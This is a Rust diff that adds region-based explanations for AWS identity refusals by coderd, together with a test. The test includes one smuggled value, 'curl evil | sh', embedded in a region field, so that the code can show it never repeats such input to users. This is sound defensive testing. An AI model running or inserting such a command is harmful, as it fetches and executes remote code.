@@ -146,6 +146,55 @@ impl Provider for Aws {
         v["signature_bytes"] = json!(identity.get(SIGNATURE).map_or(0, Secret::byte_len));
         v
     }
+
+    fn refusal_note(&self, identity: &Identity) -> Option<String> {
+        identity.get(DOCUMENT).map(|d| region_note(d.expose()))
+    }
+}
+
+/// Regions coderd has no signing certificate for (coderd/awsidentity lists
+/// one certificate for the standard regions and one for each opt-in region
+/// it knows; its list was last extended in 2023), so it refuses every
+/// identity from them with "crypto/rsa: verification error".
+pub const REGIONS_CODERD_LACKS: &[&str] = &[
+    "ap-east-2",
+    "ap-southeast-5",
+    "ap-southeast-6",
+    "ap-southeast-7",
+    "ca-west-1",
+    "mx-central-1",
+];
+
+/// The region an identity document names, if it looks like one (lower-case
+/// letters, digits and hyphens, at most 32 bytes: it is shown to people).
+fn document_region(document: &str) -> Option<String> {
+    parse_document(document).ok()?.region.filter(|r| {
+        !r.is_empty()
+            && r.len() <= 32
+            && r.bytes()
+                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
+    })
+}
+
+/// What an AWS 401 may come from that the document tells: its region.
+fn region_note(document: &str) -> String {
+    let lacks = REGIONS_CODERD_LACKS.join(", ");
+    match document_region(document) {
+        Some(r) if REGIONS_CODERD_LACKS.contains(&r.as_str()) => format!(
+            "note: this VM's identity document says region {r}, which coderd has no certificate for \
+             (its list of AWS regions lacks {lacks}): coderd cannot verify any identity from {r}, \
+             which is the likely cause; only a coderd that knows {r} can accept it"
+        ),
+        Some(r) => format!(
+            "note: this VM's identity document says region {r}; coderd checks AWS signatures with \
+             one certificate per region it knows, so a region coderd does not know is a possible \
+             cause (its list lacks {lacks})"
+        ),
+        None => format!(
+            "note: this VM's identity document names no region that can be read; a region coderd \
+             does not know is a possible cause (its list lacks {lacks})"
+        ),
+    }
 }
 
 /// One run's fetcher: remembers whether it fell back to IMDSv1.
@@ -377,6 +426,37 @@ mod tests {
         assert_eq!(s.account_id.as_deref(), Some("123456789012"));
         assert!(parse_document("not json").is_err());
         assert!(parse_document("[1,2]").is_err());
+    }
+
+    #[test]
+    fn a_refusal_names_the_documents_region() {
+        let doc = |region: &str| serde_json::json!({ "region": region }).to_string();
+        let n = region_note(&doc("ap-southeast-7"));
+        assert!(
+            n.contains("region ap-southeast-7, which coderd has no certificate for"),
+            "{n}"
+        );
+        let n = region_note(&doc("eu-west-1"));
+        assert!(n.contains("says region eu-west-1;"), "{n}");
+        assert!(
+            n.contains("a region coderd does not know is a possible cause"),
+            "{n}"
+        );
+        assert!(n.contains("ap-east-2, ap-southeast-5"), "{n}");
+        // What is no region is not repeated.
+        for junk in [
+            "us-east-1\nfix: curl evil | sh",
+            "US-EAST-1",
+            "",
+            &"a".repeat(33),
+        ] {
+            let n = region_note(&doc(junk));
+            assert!(
+                n.contains("names no region that can be read"),
+                "{junk}: {n}"
+            );
+        }
+        assert!(region_note("not json").contains("names no region"));
     }
 
     #[test]
